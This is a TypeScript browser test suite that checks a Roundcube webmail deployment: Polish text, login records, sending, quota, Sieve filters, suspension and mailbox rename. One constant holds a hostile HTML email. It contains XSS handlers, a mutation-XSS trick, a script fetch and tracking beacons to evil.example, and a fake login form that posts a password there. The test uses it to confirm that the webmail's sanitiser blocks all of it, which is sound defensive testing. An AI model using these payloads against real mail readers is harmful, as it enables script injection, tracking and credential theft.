/** Roundcube in a real browser, before our servers. */
import assert from 'node:assert/strict'
import { mkdirSync } from 'node:fs'
import path from 'node:path'
import { after, before, test } from 'node:test'
import type { FrameLocator, Page } from 'playwright-core'
import { transact } from '../../src/db/transact.ts'
import type { CreatedMailbox } from '../../src/mail/create-mailbox.ts'
import { createMailbox } from '../../src/mail/create-mailbox.ts'
import { eraseContents } from '../../src/mail/erase-mailbox.ts'
import { renameMailbox } from '../../src/mail/life/rename-mailbox.ts'
import { settleRename } from '../../src/mail/life/settle-rename.ts'
import { recentLogIns } from '../../src/mail/access/recent-log-ins.ts'
import { setFilters } from '../../src/mail/sieve/set-sieve.ts'
import { blockMailbox, suspendMailbox } from '../../src/mail/suspend-mailbox.ts'
import { staff } from '../mail/mail-house.ts'
import { openWebmailHouse, webmailMissingHere, type WebmailHouse } from './webmail-house.ts'

const skip = webmailMissingHere
/** Where pictures of the pages go, for people; none when it is not set. */
const pictures = process.env['STREFA_TEST_PICTURES']
let house: WebmailHouse

before(async () => { if (!skip) house = await openWebmailHouse() })
after(async () => { if (!skip) await house.close() })

const box = (localPart: string): Promise<CreatedMailbox> => createMailbox(house.deps, staff, { mailDomainId: house.domain.id, localPart, password: null })
const letter = (headers: readonly string[], body: string, type = 'text/plain'): Buffer =>
  Buffer.from(['From: Anna <anna@example.org>', 'MIME-Version: 1.0', `Content-Type: ${type}; charset=utf-8`, 'Content-Transfer-Encoding: 8bit', ...headers, '', body.replaceAll(/\r?\n/g, '\r\n'), ''].join('\r\n'))

async function picture (page: Page, name: string): Promise<void> {
  if (pictures === undefined) return
  mkdirSync(pictures, { recursive: true })
  await page.screenshot({ path: path.join(pictures, `${name}.png`) })
}

/** Opens the message of this subject in the list; answers the frame that shows it. */
async function open (page: Page, subject: string): Promise<FrameLocator> {
  await page.locator('#messagelist tr.message', { hasText: subject }).click()
  const frame = page.frameLocator('#messagecontframe')
  await frame.locator('#messagebody').waitFor()
  return frame
}

test('BMP-2 webmail reads a message with Polish letters, in Polish and in English, and who logs in is counted by the address that the proxy tells', { skip }, async () => {
  for (const [locale, inbox, ip] of [['pl-PL', 'Odebrane', '203.0.113.7'], ['en-GB', 'Inbox', '2001:db8::7']] as const) {
    const reader = await box(`czyta-${locale}`)
    assert.match(await house.bring(letter(['Subject: =?utf-8?Q?Za=C5=BC=C3=B3=C5=82=C4=87?='], 'gęślą jaźń — ŻÓŁĆ'), [reader.address]), /^250/)
    const { context, page, logIn } = await house.visit(locale)
    const complaints: string[] = []
    page.on('console', message => { if (message.type() === 'error') complaints.push(message.text()) })
    page.on('response', answer => { if (answer.status() >= 400) complaints.push(`${answer.status()} ${answer.url()}`) })
    await context.setExtraHTTPHeaders({ 'x-forwarded-for': ip })
    await logIn(reader)
    await page.locator('#mailboxlist li.inbox', { hasText: inbox }).waitFor()
    const frame = await open(page, 'Zażółć')
    assert.match(await frame.locator('#messagebody').innerText(), /gęślą jaźń — ŻÓŁĆ/)
    await picture(page, `message-${locale}`)
    const seen = (await transact(house.db, trx => recentLogIns(trx, reader.id, new Date(0)))).find(row => row.ip === ip)
    assert.deepEqual([seen?.protocol, seen?.outcome, /^Roundcube 1\./.test(seen?.program ?? '')], ['imap', 'in', true], JSON.stringify(seen))
    const cookies = await context.cookies()
    assert.ok(cookies.length > 0 && cookies.every(cookie => cookie.httpOnly && cookie.sameSite === 'Lax'), JSON.stringify(cookies))
    assert.deepEqual(complaints, [])
    await context.close()
  }
})

test('HOST-9.1 a wrong password opens nothing, and the page of the password leads to ours', { skip }, async () => {
  const { context, page, logIn } = await house.visit('en-GB')
  const own = await box('haslo')
  await logIn({ ...own, password: 'not her password' })
  await page.locator('#messagestack', { hasText: 'Login failed' }).waitFor()
  await logIn(own)
  await page.locator('#mailboxlist').waitFor()
  await page.goto(`${house.url}?_task=settings`)
  await picture(page, 'settings')
  await page.locator('#settings-menu a', { hasText: 'Password' }).click()
  await page.waitForURL(`${house.servers.config.webUrl}/mailbox-password`)
  await context.close()
})

/** The form of a new message; asked for once more where the machine is so busy that it does not come, as a person does. Throws with what stands there instead. */
async function openForm (page: Page, more = ''): Promise<void> {
  for (let tries = 1; ; tries++) {
    await page.goto(`${house.url}?_task=mail&_action=compose${more}`)
    try {
      return await page.locator('#compose-subject').waitFor({ timeout: 20_000 })
    } catch (error) {
      if (tries === 2) throw new Error(`no form of a new message at ${page.url()}: ${(await page.innerText('body')).slice(0, 500)}`, { cause: error })
    }
  }
}

/** Sends what is in the form. A click before the page listens is lost: it is made once more, as a person does, if nothing went on its way. Throws with what the page says instead. */
async function send (page: Page): Promise<void> {
  const button = page.locator('#toolbar-menu a.send, .formbuttons button.send').first()
  for (let tries = 1; ; tries++) {
    await button.click()
    try {
      return await page.waitForURL(url => url.searchParams.get('_action') !== 'compose', { timeout: 30_000, waitUntil: 'commit' })
    } catch (error) {
      const [busy, says] = await page.evaluate(() => [Boolean((globalThis as unknown as { rcmail?: { busy?: boolean } }).rcmail?.busy), [...document.querySelectorAll('#messagestack, .ui-dialog')].map(each => each.textContent).join(' ').trim()]) as [boolean, string]
      if (tries === 2 || busy) throw new Error(`not sent from ${page.url()}: ${busy ? 'still at it' : 'idle'}, ${says || 'the page says nothing'}`, { cause: error })
    }
  }
}

test('BMP-2 webmail writes to another mailbox: it arrives as it was written, and a copy lies in Sent', { skip }, async () => {
  const { context, page, logIn } = await house.visit()
  await logIn(house.ewa)
  await page.locator('#mailboxlist').waitFor()
  await openForm(page, `&_to=${encodeURIComponent(house.jan.address)}`)
  await page.fill('#compose-subject', 'Łódź — jutro')
  await page.fill('#composebody', 'Pchnąć w tę łódź jeża\n.kropka na początku')
  await picture(page, 'compose')
  await send(page)
  const [text] = (await house.inbox(house.jan)).map(message => message.toString())
  assert.match(text!, /^Subject: =\?UTF-8\?/m)
  assert.match(text!, /^From: ewa@xn--/m)
  assert.match(text!, /Pchn=C4=85=C4=87|Pchnąć/)
  const imap = await house.imap(house.ewa)
  const sent = await imap.status('Sent', { messages: true })
  await imap.logout()
  assert.equal(sent && sent.messages, 1)
  await context.close()
})

test('RFC 9208 §4.3 a mailbox that is full says so in webmail, and nothing of the draft is lost', { skip }, async () => {
  const full = await box('pelna')
  await house.bring(letter(['Subject: long'], 'x\r\n'.repeat(9000)), [full.address])
  await house.db('mailboxes').where({ id: full.id }).update({ quota_bytes: 20_000 })
  const { context, page, logIn } = await house.visit('en-GB')
  await logIn(full)
  await page.locator('#quotadisplay', { hasText: '100%' }).waitFor()
  await openForm(page)
  await page.fill('#compose-subject', 'a draft')
  await page.fill('#composebody', 'kept in the window')
  await page.locator('#toolbar-menu a.save').first().click()
  await page.locator('#messagestack', { hasText: 'No free disk space' }).waitFor()
  await picture(page, 'full')
  assert.equal(await page.inputValue('#composebody'), 'kept in the window')
  await context.close()
})

test('HOUSE-SIEVE a filter made in webmail stands beside the one of the panel: both hold, neither changes the other', { skip }, async () => {
  const ola = await box('ola')
  await setFilters({ ...house.deps, webUrl: 'http://panel.example' }, staff, { mailboxId: ola.id, on: true, filters: [{ match: 'any', conditions: [{ field: 'subject', test: 'contains', value: 'faktura' }], actions: [{ do: 'folder', folder: 'Faktury' }] }] })
  const before = await house.db('mailbox_sieve').where({ mailbox_id: ola.id }).first()
  const { context, page, logIn } = await house.visit('en-GB')
  await logIn(ola)
  await page.locator('#mailboxlist').waitFor()
  await page.goto(`${house.url}?_task=settings&_action=plugin.managesieve`)
  await page.locator('#toolbar-menu a.create').click()
  const form = page.frameLocator('iframe[name="filter-box"]')
  await form.locator('#_name').fill('Zniżki')
  await form.locator('#header0').selectOption('subject')
  await form.locator('#rule_op0').selectOption('contains')
  await form.locator('.multi-input:visible input:visible').first().fill('promocja')
  await form.locator('#action_type0').selectOption('fileinto')
  assert.equal(await form.locator('#action_type0 option[value="redirect"]').count(), 0, 'what Dovecot refuses is not offered')
  await form.locator('[name="_action_mailbox[0]"]').selectOption('Trash')
  await picture(page, 'filter')
  await form.locator('.formbuttons button.submit').click()
  await page.locator('#filterslist', { hasText: 'Zniżki' }).waitFor()
  await picture(page, 'filters')
  await context.close()

  assert.deepEqual(await house.db('mailbox_sieve').where({ mailbox_id: ola.id }).first(), before)
  for (const subject of ['faktura 7', 'promocja dnia', 'zwykła']) assert.match(await house.bring(letter([`Subject: ${subject}`, 'To: ola'], 'x'), [ola.address]), /^250/)
  const imap = await house.imap(ola)
  const held: Record<string, number | undefined> = {}
  for (const folder of ['Faktury', 'Trash', 'INBOX']) {
    const found = await imap.status(folder, { messages: true })
    held[folder] = found ? found.messages : undefined
  }
  await imap.logout()
  assert.deepEqual(held, { Faktury: 1, Trash: 1, INBOX: 1 })
})

const hostile = `<html><head><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css"><meta http-equiv="refresh" content="0;url=http://evil.example/meta"><script>top.hostile = 1; fetch('http://evil.example/fetch')</script>
<style>body { background: url(http://evil.example/style.png) } @import "http://evil.example/import.css"; @font-face { font-family: x; src: url(http://evil.example/font) }</style></head>
<body onload="top.hostile = 2" background="http://evil.example/bg.png"><p id="said" style="background-image: url('http://evil.example/inline.png')">przeczytaj mnie</p>
<img src="http://evil.example/pixel.gif" onerror="top.hostile = 3"><img src=x onerror="top.hostile = 4"><svg onload="top.hostile = 5"><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object><embed src="http://evil.example/embed"><video src="http://evil.example/video" autoplay poster="http://evil.example/poster"></video>
<form action="http://evil.example/form" method="post"><input name="_pass"><button>Zaloguj</button></form><a href="javascript:top.hostile = 6" id="link">tu</a><math><mtext></mtext><mglyph><style><img src=x onerror="top.hostile = 7"></style></mglyph></math></body></html>`

test('RFC 8551 §6 a hostile message in HTML does nothing: no script, no request to elsewhere, no form', { skip }, async () => {
  const victim = await box('ofiara')
  assert.match(await house.bring(letter(['Subject: hostile'], hostile, 'text/html'), [victim.address]), /^250/)
  const { context, page, abroad, logIn } = await house.visit('en-GB')
  await logIn(victim)
  const frame = await open(page, 'hostile')
  await frame.locator('#messagebody', { hasText: 'przeczytaj mnie' }).waitFor()
  await frame.locator('#remote-objects-message').waitFor()
  await picture(page, 'hostile')
  assert.deepEqual(abroad, [])
  const link = frame.locator('#messagebody a', { hasText: 'tu' })
  if (await link.count() > 0) await link.click()
  assert.equal(await page.evaluate(() => (globalThis as { hostile?: number }).hostile), undefined)
  assert.equal(await frame.locator('#messagebody :is(form[action*="evil"], iframe, object, embed, script, base, meta, link)').count(), 0)
  await context.close()
})

test('HOST-8.1 a mailbox that is suspended falls out of webmail and does not come in again', { skip }, async () => {
  const zofia = await box('zofia')
  const { context, page, logIn } = await house.visit('en-GB')
  await logIn(zofia)
  await page.locator('#mailboxlist').waitFor()
  await page.waitForLoadState('networkidle') // an answer to the list of messages that finds no session moves the page by itself
  await transact(house.db, trx => suspendMailbox(house.deps, trx, staff, { mailboxId: zofia.id, rule: 'HOST-8.1', at: house.deps.now() }))
  await house.settle()
  await page.goto(`${house.url}?_task=mail`)
  await page.locator('#rcmloginuser').waitFor()
  await picture(page, 'suspended')
  await logIn(zofia)
  await page.locator('#messagestack', { hasText: 'Login failed' }).waitFor()
  await context.close()
})

test('HOUSE-RENAME what somebody keeps in webmail goes along to a new address, and ends with the mailbox', { skip }, async () => {
  const old = await box('stara')
  const { context, page, logIn } = await house.visit('en-GB')
  await logIn(old)
  await page.locator('#mailboxlist').waitFor()
  await context.close()
  const kept = () => house.db.withSchema('webmail').table('users').leftJoin('identities', 'identities.user_id', 'users.user_id').whereIn('username', [old.address, renamed.address]).select('username', 'email')
  const renamed = await renameMailbox(house.deps, staff, { mailboxId: old.id, mailDomainId: null, localPart: 'nowa', formerNameDays: 0 })
  assert.deepEqual(await kept(), [{ username: old.address, email: old.address }])
  await settleRename(house.deps, { mailboxId: old.id, from: old.address })
  assert.deepEqual(await kept(), [{ username: renamed.address, email: renamed.address }])
  await transact(house.db, trx => blockMailbox(house.deps, trx, staff, { mailboxId: old.id, rule: 'HOST-8.1', at: house.deps.now() }))
  await eraseContents(house.deps, old.id)
  assert.deepEqual(await kept(), [])
})
